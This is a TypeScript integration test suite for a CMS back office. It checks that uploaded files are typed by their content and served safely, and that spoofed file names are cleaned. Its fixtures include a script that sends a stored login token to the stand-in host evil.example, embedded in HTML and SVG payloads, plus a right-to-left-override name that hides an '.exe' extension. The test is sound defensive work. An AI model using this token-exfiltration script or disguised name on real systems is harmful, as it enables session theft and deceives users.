/**
 * Issue 7, finding 3 (and the file-name item of finding 8): an uploaded file never runs in the
 * back office's origin. Uploads are kept for what their bytes are, stored under the type and
 * extension those bytes call for, and served as an image or PDF to look at or as a download.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import { startApp, type TestApp } from '../integration/helpers/app';
import { signUploadUrl, uploadSecret } from '../../cms/src/backoffice/signed-urls';

let app: TestApp;

beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app.stop());

// The smallest valid PNG: one transparent pixel.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const STEAL = 'fetch("https://evil.example/?t=" + localStorage.getItem("token"))';
const HTML = `<!doctype html><html><body><script src="robo.js"></script><script>${STEAL}</script></body></html>`;
const XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${STEAL}</script></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${STEAL}</script></svg>`;

/** A minimal Word document: the parts that make a zip an Office Open XML one. */
async function docx(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
  zip.file('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>');
  zip.file('word/document.xml', '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>');
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const upload = async (name: string, body: Buffer | string, contentType: string, role: 'goal-manager' | 'admin' = 'goal-manager') =>
  app.http
    .post('/api/backoffice/uploads')
    .set('Authorization', `Bearer ${await app.login(role)}`)
    .attach('files', Buffer.isBuffer(body) ? body : Buffer.from(body), { filename: name, contentType });

describe('uploads are checked by their content, not by the type the browser declares', () => {
  it.each([
    ['a script declared as plain text', 'robo.js', STEAL, 'text/plain'],
    ['an HTML page declared as a PNG image', 'pagina.html', HTML, 'image/png'],
    ['an HTML page named and declared as a PNG image', 'foto.png', HTML, 'image/png'],
    ['an .htm page declared as a PNG image', 'pagina.htm', HTML, 'image/png'],
    ['an XHTML page declared as a PDF', 'pagina.xhtml', XHTML, 'application/pdf'],
    ['an SVG image with a script, declared as a PNG image', 'dibujo.svg', SVG, 'image/png'],
    ['an SVG image declared as SVG', 'dibujo.svg', SVG, 'image/svg+xml'],
    ['plain text', 'notas.txt', 'Acta de la reunión', 'text/plain'],
  ])('refuses %s with a 400 naming the field and the reason', async (_what, name, body, contentType) => {
    const res = await upload(name, body, contentType);
    expect(res.status).toBe(400);
    expect(res.body.errors.files).toMatch(/^El contenido del archivo «.+» no es un tipo permitido: (no se reconoce|es application\/xml)/);
  });

  it('stores a real PNG declared as a PDF as the PNG image it is', async () => {
    const res = await upload('acta.pdf', PNG, 'application/pdf');
    expect(res.status).toBe(201);
    expect(res.body[0]).toEqual(expect.objectContaining({ name: 'acta.png', mime: 'image/png', url: expect.stringMatching(/^\/uploads\/[^?]+\.png\?/) }));
    const served = await app.http.get(res.body[0].url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['content-disposition']).toMatch(/^inline; /);
  });
});

describe('uploaded files are served so that none of them runs in the back office', () => {
  it('shows a real PDF in the browser, as a PDF the browser may not sniff', async () => {
    const res = await upload('informe.pdf', PDF, 'application/pdf');
    expect(res.status).toBe(201);
    expect(res.body[0].mime).toBe('application/pdf');
    const served = await app.http.get(res.body[0].url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['content-disposition']).toMatch(/^inline; filename="informe_[\w]+\.pdf"$/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toMatch(/^default-src 'none'/);
  });

  it('hands out a Word document as a download', async () => {
    const res = await upload('acta.docx', await docx(), 'application/octet-stream');
    expect(res.status).toBe(201);
    expect(res.body[0].mime).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const served = await app.http.get(res.body[0].url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(served.headers['content-disposition']).toMatch(/^attachment; filename="acta_\w+\.docx"$/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'self'; sandbox");
  });

  it.each([
    ['an HTML page', 'viejo.html', HTML],
    ['an SVG image', 'viejo.svg', SVG],
    ['a script', 'viejo.js', STEAL],
  ])('serves %s stored before the content check as opaque bytes to download', async (_what, name, body) => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sigobito-old-upload-'));
    const filepath = path.join(dir, name);
    fs.writeFileSync(filepath, body);
    try {
      // As the upload route stored files before: the declared type, the extension of the name.
      const [stored] = (await app.strapi
        .plugin('upload')
        .service('upload')
        .upload({ data: { fileInfo: {} }, files: { filepath, originalFilename: name, mimetype: 'image/png', size: Buffer.byteLength(body) } })) as Array<{ url: string }>;
      expect(stored.url).toMatch(new RegExp(`\\${path.extname(name)}$`));
      const served = await app.http.get(signUploadUrl(stored.url, Date.now(), uploadSecret()));
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toBe('application/octet-stream');
      expect(served.headers['content-disposition']).toMatch(/^attachment; filename="viejo_\w+\.\w+"$/);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['content-security-policy']).toMatch(/; sandbox$/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('file names', () => {
  it('stores a name without the bidirectional controls that disguise its extension', async () => {
    const res = await upload('invoice\u202Efdp.exe', PDF, 'application/pdf');
    expect(res.status).toBe(201);
    expect(res.body[0].name).toBe('invoicefdp.exe.pdf');
    expect(res.body[0].url).toMatch(/^\/uploads\/invoicefdp_exe_\w+\.pdf\?/);
  });

  it('stores a name without isolates, marks, zero-width or control characters', async () => {
    const res = await upload('a\u2066c\u2069ta\u200E fi\u200Fnal\u200B\u0007.png', PNG, 'image/png');
    expect(res.status).toBe(201);
    expect(res.body[0].name).toBe('acta final.png');
  });
});

describe('the logo', () => {
  it('takes only an image, not another uploaded document', async () => {
    const admin = await app.client('admin');
    const pdf = (await upload('logo.pdf', PDF, 'application/pdf', 'admin')).body[0];
    const refused = await admin.update('settings', { id: 'current', data: { logo: pdf.id }, previousData: { id: 'current' } }).catch((e) => e);
    expect(refused.status).toBe(400);
    expect(refused.body.errors.logo).toMatch(/debe ser una imagen/);
    const png = (await upload('logo.png', PNG, 'image/png', 'admin')).body[0];
    const saved = (await admin.update('settings', { id: 'current', data: { logo: png.id }, previousData: { id: 'current' } })).data;
    expect(saved.logo).toEqual(expect.objectContaining({ id: png.id, mime: 'image/png' }));
  });
});
